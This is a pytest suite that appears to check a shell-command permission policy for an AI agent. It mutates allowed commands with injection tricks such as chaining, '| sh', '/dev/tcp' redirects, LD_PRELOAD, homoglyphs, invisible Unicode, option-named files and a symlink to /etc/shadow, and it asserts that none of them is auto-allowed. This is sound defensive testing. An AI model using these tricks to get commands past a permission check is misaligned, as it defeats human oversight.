"""Take a command that is allowed, change it a little: it is not allowed any more, unless that is proven too."""

import asyncio
import os
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.policy.entries import entries, make_project

from tarmac.policy import Execute, Policy, Verdict

pytestmark = pytest.mark.slow

MUTATIONS: dict[str, Callable[[str], str]] = {
    "; x": lambda line: f"{line}; frobnicate",
    "&& x": lambda line: f"{line} && frobnicate",
    "|| x": lambda line: f"{line} || frobnicate",
    "| x": lambda line: f"{line} | frobnicate",
    "| sh": lambda line: f"{line} | sh",
    "x first": lambda line: f"frobnicate; {line}",
    "& x": lambda line: f"{line} & frobnicate",
    "&": lambda line: f"{line} &",
    "newline x": lambda line: f"{line}\nfrobnicate",
    "$(x)": lambda line: f"{line} $(frobnicate)",
    "quoted $(x)": lambda line: f'{line} "$(frobnicate)"',
    "backticks": lambda line: f"{line} `frobnicate`",
    "${x}": lambda line: f"{line} ${{PROJECT}}",
    "${x@P}": lambda line: f"{line} ${{x@P}}",
    "$x": lambda line: f"{line} $x",
    "<(x)": lambda line: f"{line} <(frobnicate)",
    ">(x)": lambda line: f"{line} >(frobnicate)",
    "> f": lambda line: f"{line} > out",
    ">> f": lambda line: f"{line} >> out",
    "2> f": lambda line: f"{line} 2> out",
    "&> f": lambda line: f"{line} &> out",
    ">| f": lambda line: f"{line} >| out",
    "<> f": lambda line: f"{line} <> out",
    "> /dev/tcp": lambda line: f"{line} > /dev/tcp/10.0.0.1/80",
    "environment": lambda line: f"LD_PRELOAD=./x.so {line}",
    "any environment": lambda line: f"X=1 {line}",
    "export": lambda line: f"export PAGER=x; {line}",
    "sudo": lambda line: f"sudo {line}",
    "env": lambda line: f"env X=1 {line}",
    "xargs": lambda line: f"xargs {line}",
    "exec": lambda line: f"exec {line}",
    "sh -c": lambda line: f"sh -c {shlex.quote(line)}",
    "eval": lambda line: f"eval {shlex.quote(line)}",
    "watch": lambda line: f"watch {line}",
    "ssh": lambda line: f"ssh host {line}",
    "function": lambda line: f"ls() {{ frobnicate; }}; {line}",
    "alias": lambda line: f"alias ls=frobnicate; {line}",
    "loop": lambda line: f"for i in 1; do {line}; frobnicate; done",
    "loop over output": lambda line: f"for i in $(frobnicate); do {line}; done",
    "loop variable": lambda line: f"for i in frobnicate; do {line}; $i; done",
    "endless loop": lambda line: f"while true; do {line}; done",
    "condition": lambda line: f"if frobnicate; then {line}; fi",
    "branch": lambda line: f"if true; then {line}; else frobnicate; fi",
    "test": lambda line: f'[[ -n "$(frobnicate)" ]] && {line}',
    "block": lambda line: f"true && {{ {line}; frobnicate; }}",
    "block > f": lambda line: f"for i in 1; do {line}; done > out",
    "here-string": lambda line: f'{line} <<< "$(frobnicate)"',
    "homoglyph": lambda line: line.replace("a", "а", 1).replace("e", "е", 1).replace("o", "о", 1),
    "$IFS": lambda line: line.replace(" ", "$IFS", 1) if " " in line else f"{line}$IFS",
    "${IFS}": lambda line: line.replace(" ", "${IFS}", 1) if " " in line else f"{line}${{IFS}}",
    "brace": lambda line: "{" + line.replace(" ", ",", 1) + "}" if " " in line else f"{line} {{a,`b`}}",
    "brace word": lambda line: f"{line} {{a,$(frobnicate)}}",
    "brace sequence": lambda line: f"{line} {{1..3}}",
    "escape": lambda line: f"{line} \x1b[2K",
    "bidi": lambda line: f"{line} \u202e",
    "zero width": lambda line: f"{line[0]}\u200b{line[1:]}",
    "no-break space": lambda line: line.replace(" ", "\u00a0", 1) if " " in line else f"{line}\u00a0",
    "continued": lambda line: f"{line} \\\n; frobnicate",
    "comment": lambda line: f"{line} # x\nfrobnicate",
    "comment that seems to go on": lambda line: f"{line} # x \\\nfrobnicate",
    "history": lambda line: f"{line} !!",
    "here-document": lambda line: f"{line} <<END\n$(frobnicate)\nEND",
    "unclosed": lambda line: f"{line} '",
}  # fmt: skip
SILENT = ("homoglyph",)  # may leave a line as it was


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_project(tmp_path_factory.mktemp("project").resolve())


async def judge(policy: Policy, line: str, workspace: Path) -> Verdict:
    return await policy.judge(Execute(line, cwd=workspace), workspace=workspace)


async def allowed_lines(policy: Policy, workspace: Path) -> list[str]:
    """Every simple line of the corpus that is allowed."""
    plain = [e.line for e in entries() if e.decisions == {"allow"} and e.shell == "bash"]
    plain = [line for line in dict.fromkeys(plain) if not set(line) & set("|&;\n@<>")]
    verdicts = await asyncio.gather(*(judge(policy, line, workspace) for line in plain))
    return [line for line, verdict in zip(plain, verdicts, strict=True) if verdict.decision == "allow"]


async def test_no_change_slips_anything_in(workspace: Path) -> None:
    """P2: every allowed line of the corpus, changed: two ways each in turn, or all with TARMAC_THOROUGH."""
    policy = Policy()
    lines = await allowed_lines(policy, workspace)
    assert len(lines) > 300
    changes = list(MUTATIONS.items())
    few = len(changes) if os.environ.get("TARMAC_THOROUGH") else 2
    changed = [
        (name, line, change(line))
        for number, line in enumerate(lines)
        for name, change in (changes[(number * few + each) % len(changes)] for each in range(few))
    ]
    changed = [(name, line, new) for name, line, new in changed if not (name in SILENT and line == new)]
    verdicts = await asyncio.gather(*(judge(policy, new, workspace) for _, _, new in changed))
    wrong = [(name, new) for (name, _, new), v in zip(changed, verdicts, strict=True) if v.decision == "allow"]
    assert wrong == []


async def test_other_quoting_changes_nothing(workspace: Path) -> None:
    """P2: quoted arguments mean the same, and the plan has the same words; a command in quotes is asked about."""
    policy = Policy()
    for line in (await allowed_lines(policy, workspace))[::4]:
        if set(line) & set("*?[~$\\<>"):
            continue
        command, *rest = shlex.split(line)
        quoted = " ".join([command, *(f"'{word}'" if "'" not in word else shlex.quote(word) for word in rest)])
        before, after = await judge(policy, line, workspace), await judge(policy, quoted, workspace)
        assert (after.decision, after.plan) == (before.decision, before.plan), quoted
        hidden = await judge(policy, shlex.join(["x"]).replace("x", f"'{command}'") + line[len(command) :], workspace)
        assert hidden.decision == "ask"


async def test_comments_continued_lines_and_braces_change_nothing(workspace: Path) -> None:
    """P2: written otherwise, the same words get the same verdict and the same plan."""
    policy = Policy()
    for line in (await allowed_lines(policy, workspace))[::6]:
        before = await judge(policy, line, workspace)
        for same in (f"{line} # rm -rf x", f"# first\n{line}", f"{line} \\\n"):
            after = await judge(policy, same, workspace)
            assert (after.decision, after.plan) == (before.decision, before.plan), same
        for words, spelled in ((f"{line} q w", f"{line} {{q,w}}"), (f"{line} -q -w", f"{line} \\\n  -q \\\n -w")):
            one, other = await judge(policy, words, workspace), await judge(policy, spelled, workspace)
            assert (one.decision, one.plan) == (other.decision, other.plan), spelled


async def test_loops_conditions_and_groups_run_the_same_stages(workspace: Path) -> None:
    """P2: around an allowed line, they add no word to what is run."""
    policy = Policy()

    def ran(verdict: Verdict) -> list[tuple[str, ...]]:
        steps = verdict.plan.steps if verdict.plan else ()
        return [stage.words for step in steps for stage in step.stages if stage.words != ("true",)]

    for line in (await allowed_lines(policy, workspace))[::6]:
        stages = ran(await judge(policy, line, workspace))
        around = ("for i in 1; do {}; done", "if true; then {}; fi", "true && {{ {}; }}", "[[ -f a ]]; time {}")
        for frame in around if not line.startswith("cd ") else ():
            framed = await judge(policy, frame.format(line), workspace)
            assert framed.decision == "allow", (framed.reason, frame.format(line))
            assert [each for each in ran(framed) if each != ("test", "-f", "a")] == stages


@pytest.mark.parametrize(
    ("line", "name", "decision"),
    [
        ("sort *", "--output=x", "ask"),
        ("sort *", "-ox", "ask"),
        ("sort *", "--compress-program=x", "ask"),
        ("rg foo *", "--pre=x", "ask"),
        ("find . *", "-delete", "ask"),
        ("git diff *", "--output=x", "ask"),
        ("tree *", "-o", "ask"),
        ("sed -n 1p *", "-i", "ask"),
        ("ls *", "-la", "allow"),
        ("cat *", "-n", "allow"),
        ("wc -l *.txt", "a b.txt", "allow"),
        ("sort *", "plain", "allow"),
        ("cat *", ".env", "allow"),
        ("cat .*", ".env", "ask"),
    ],
)
async def test_a_pattern_is_judged_by_what_it_becomes(tmp_path: Path, line: str, name: str, decision: str) -> None:
    """P2: a file named like an option becomes one; a pattern's names are looked at one by one."""
    (tmp_path / name).write_text("x\n")
    verdict = await Policy().judge(Execute(line, cwd=tmp_path), workspace=tmp_path)
    assert verdict.decision == decision
    if verdict.plan and not name.startswith("."):
        assert name in verdict.plan.steps[0].stages[0].words


async def test_a_pattern_that_leads_out_through_a_link_asks(tmp_path: Path) -> None:
    """P8: globbed arguments are looked at through symlinks, and ignored files stay hidden."""
    (tmp_path / "a.txt").symlink_to("/etc/shadow")
    (tmp_path / "b.md").write_text("x")
    (tmp_path / ".tarmacignore").write_text("*.md\n")
    policy = Policy()
    found = [
        (await judge(policy, line, tmp_path)).decision for line in ("cat *.txt", "cat *.md", "cat b.md", "ls *.txt")
    ]
    assert found[:3] == ["ask", "ask", "ask"]
